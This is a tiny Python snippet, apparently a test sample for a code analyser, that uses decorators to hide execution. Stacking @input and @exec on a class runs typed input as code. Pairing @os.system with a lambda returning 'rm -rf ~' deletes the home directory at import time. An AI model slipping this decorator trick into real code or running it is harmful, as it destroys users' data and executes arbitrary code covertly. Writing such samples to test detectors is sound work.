# tricky: a decorator is a call
import os

@exec
@input
class X:
    pass

@os.system
@lambda f: "rm -rf ~"
def unused():
    pass
